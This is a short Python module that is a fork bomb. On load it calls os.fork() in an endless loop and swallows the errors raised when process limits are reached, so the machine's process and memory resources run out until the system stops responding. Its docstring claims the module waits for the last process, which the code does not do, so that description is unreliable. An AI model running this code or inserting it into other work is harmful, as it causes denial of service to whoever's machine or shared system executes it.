"""Starts processes without end while it is loaded, and waits for the last of them."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
